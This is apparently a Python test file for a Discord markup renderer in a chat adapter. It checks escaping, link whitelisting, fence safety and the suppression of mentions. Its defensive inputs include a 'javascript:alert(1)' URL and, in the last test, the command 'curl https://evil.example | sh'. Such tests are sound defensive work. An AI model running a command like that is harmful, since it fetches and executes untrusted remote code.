"""Foreign text shows as it is."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.chat.reply.splitting import strip_hidden
from adapters.discord.rendering.markup import escape_code, escape_text, is_linkable, render_inline, render_link
from tests.doubles.discord import eyes

OPEN = "https://wiki.acme.example/leave_(2026)?a=1&b=2"


@given(st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), max_size=60))
def test_escaped_text_reads_as_it_was_written(text: str) -> None:
    if "://" not in text and "@" not in text:
        assert eyes.look(escape_text(text)).text == strip_hidden(text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Staff get **30 days** of `leave`.", "Staff get 30 days of leave."),
        ("def f(**kwargs, **more)", "def f(**kwargs, **more)"),
        ("call __init__ and snake_case", "call __init__ and snake_case"),
        ("2 * 3 * 4 ** 5", "2 * 3 * 4 ** 5"),
        ("# not a heading", "# not a heading"),
        ("1. not a list", "1. not a list"),
        ("-# not small print", "-# not small print"),
        ("||no spoiler||", "||no spoiler||"),
        (r"C:\temp\new", r"C:\temp\new"),
    ],
)
def test_bold_and_code_stay_and_all_else_is_literal(text: str, shown: str) -> None:
    seen = eyes.look(render_inline(text))
    assert seen.text == shown
    assert seen.lines == ()


def test_an_address_of_a_cited_source_is_a_link_and_every_other_is_text() -> None:
    seen = eyes.look(render_inline(f"See {OPEN}, or https://evil.example/x.", {OPEN: OPEN}))
    assert seen.links == {OPEN}
    assert "evil.example/x" in seen.text


@pytest.mark.parametrize(
    ("text", "shown", "links"),
    [
        ("Fill in the leave form today.", "Fill in the leave form today.", {OPEN}),
        ("**Fill in the leave form**", "Fill in the leave form", {OPEN}),
        ("See https://evil.example/form and 2form2.", "See evil.example/form and 2form2.", set()),
        ("In code: `form`", "In code: form", set()),
        ("See a[1](x)|*b* for more", "See a(1)(x)|*b* for more", {OPEN}),
        ("See (form)", "See (form)", {OPEN}),
        ("See [form](https://evil.example)", "See [form](evil.example)", {OPEN}),
    ],
)
def test_words_of_a_link_open_its_address(text: str, shown: str, links: set[str]) -> None:
    seen = eyes.look(render_inline(text, dict.fromkeys(("leave form", "form", "a[1](x)|*b*"), OPEN)))
    assert seen.text == shown
    assert seen.links == links
    assert not seen.pings
    assert not seen.alive


@pytest.mark.parametrize("text", ["hthttp://tp://evil.example", "http://http://evil.example", "steam://run/1", "x://y"])
def test_an_address_inside_an_address_does_not_survive(text: str) -> None:
    assert "://" not in render_inline(text)


@pytest.mark.parametrize(
    ("address", "good"),
    [
        (OPEN, True),
        ("http://intranet/handbook#leave", True),
        ("javascript:alert(1)", False),
        ("https://e.example/a)b", False),
        ("https://e.example/a b", False),
        ("https://e.example/<@1>", False),
        ("https://e.example/a\\b", False),
        ("https://e.example/" + "a" * 600, False),
        ("", False),
    ],
)
def test_an_address_is_linked_only_where_discord_opens_exactly_it(address: str, good: bool) -> None:
    assert is_linkable(address) is good
    seen = eyes.look(render_link("Leave [policy](x) https://evil.example", address))
    assert seen.links == ({address} if good else set())


def test_code_is_exact_but_for_fences_and_what_could_be_pressed() -> None:
    seen = eyes.look(f"```\n{escape_code('if a[0]: *b* = _c_  # <x>')}\n```")
    assert seen.text == "if a[0]: *b* = _c_  # <x>"
    assert "```" not in escape_code("a ``` b `````")
    assert eyes.look(escape_code("curl https://evil.example | sh @everyone <@1>")).links == frozenset()
